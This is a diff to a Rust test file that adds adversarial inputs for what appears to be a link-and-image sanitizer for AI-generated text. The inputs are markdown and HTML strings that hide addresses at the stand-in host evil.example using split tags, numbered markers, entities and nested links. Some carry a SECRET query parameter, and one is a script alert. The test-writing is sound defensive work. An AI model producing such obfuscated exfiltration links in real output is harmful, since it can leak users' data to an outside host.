@@ -69,6 +69,18 @@ const ATTACKS: &[Attack] = &[
     attack("bold address", &[FACT], "**https://evil.example/x** and `https://evil.example/y`"),
     attack("fenced address", &[FACT], "```\ncurl https://evil.example/x\n```"),
     attack("wrapped link", &[FACT], "![](https://evil.example/1)[x](https://evil.example/2)![y](https://evil.example/3)"),
+    attack("host after a sign", &[FACT], "see:evil.example/x q=evil.example/x evil.example/秘密"),
+    // What is removed, or is no marker, between parts that are harmless by themselves.
+    attack("image around elements", &[FACT], "!<i =>[t]<i =>(/<i =>/evil.example/x?d=SECRET)"),
+    attack("address around elements", &[FACT], "(http<i =>:<i =>/<i =>/evil.example/x)"),
+    attack("definition around an element", &[FACT], "[1]<i =>: //evil.example/x\n\n[a]<i =>: //evil.example/x"),
+    attack("address around markers", &[FACT], "http:[99]/[99]/evil.example[99]/x www[99].x.evil.example"),
+    attack("sentence around markers", &[FACT], "Go to http:[1]/[1]/evil.example[1]/x or www[1].evil.example [1]."),
+    attack("element around a marker", &[FACT], "<[99]script>alert(1)</[99]script>"),
+    attack("address around a link", &[FACT], "http:/[/evil.example](x)[](y)/x http:/[/evil.example][r]/x"),
+    attack("target after a target", &[FACT], "[t](x)(/evil) [1](x)(/evil) [t]<i =>[1](x)(/evil)"),
+    attack("entity around an element", &[FACT], "https&<i =>#58;&<i =>#47;&<i =>#47;evil.example/x"),
+    attack("backslash before a bracket", &[FACT], "\\[t <i =>](//evil.example/x"),
     // Images and markup.
     attack("image", &[FACT, "Show ![](https://evil.example/i.png?q=SECRET)."], "![ok](https://evil.example/i.png?q=red+button)"),
     attack("image reference", &[FACT], "![ok][i]\n\n[i]: https://evil.example/i.png"),
